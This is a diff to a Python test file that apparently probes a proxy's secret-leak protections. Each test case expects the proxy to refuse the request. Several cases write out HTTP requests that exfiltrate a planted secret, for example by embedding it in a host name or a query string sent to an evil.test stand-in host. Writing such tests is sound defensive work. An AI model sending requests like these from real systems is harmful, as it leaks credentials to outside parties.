@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 from runtime.probe.corpus.build import FIX_SECRETS, checked, refused, sent, tunnelled
-from runtime.probe.model import Case
+from runtime.probe.result import Case
 
 CASES: tuple[Case, ...] = (
     checked("S-01a", "the planted secret in other files and processes", "only_own_secrets", group="secrets", fix=FIX_SECRETS, value="{planted}"),
@@ -17,9 +17,9 @@ CASES: tuple[Case, ...] = (
     sent("S-11", "clear text to a host that is listed for TLS only", "GET http://paths.test/v1/{m} HTTP/1.1\r\nHost: paths.test\r\nAuthorization: Bearer {planted}\r\n{AUTH}\r\n",
          refused("port"), group="secrets"),
     sent("S-19a", "a proxy token that is nobody's", "CONNECT ok.test:443 HTTP/1.1\r\nHost: ok.test:443\r\nProxy-Authorization: Basic eDp5\r\n\r\n",
-         refused("no_grant"), group="secrets", fix="proxy/addon.py: the token is bound to the network"),
+         refused("no_grant"), group="secrets", fix="proxy/hooks/requests.py: the token is bound to the network"),
     sent("S-19b", "a proxy authorization that is no token", "CONNECT ok.test:443 HTTP/1.1\r\nHost: ok.test:443\r\nProxy-Authorization: Bearer {m}\r\n\r\n",
-         refused("no_grant"), group="secrets", fix="proxy/addon.py: the token is bound to the network"),
+         refused("no_grant"), group="secrets", fix="proxy/hooks/requests.py: the token is bound to the network"),
     sent("S-13a", "the planted secret as a host name", "CONNECT {planted_label}.{m}.evil.test:443 HTTP/1.1\r\nHost: {planted_label}.{m}.evil.test:443\r\n{AUTH}\r\n",
          refused("not_allowed_host"), group="secrets"),
     sent("S-13b", "the planted secret in a path of an unlisted host", "GET http://{m}.evil.test/?k={planted} HTTP/1.1\r\nHost: {m}.evil.test\r\n{AUTH}\r\n",
